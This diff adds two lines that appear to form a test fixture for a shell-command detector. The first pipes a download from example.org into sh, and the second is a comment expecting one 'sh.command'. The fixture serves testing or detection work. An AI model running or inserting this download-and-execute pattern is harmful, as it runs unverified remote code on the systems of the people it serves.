@@ -1,0 +1,2 @@
+curl https://example.org/x | sh
+# expect 1 sh.command
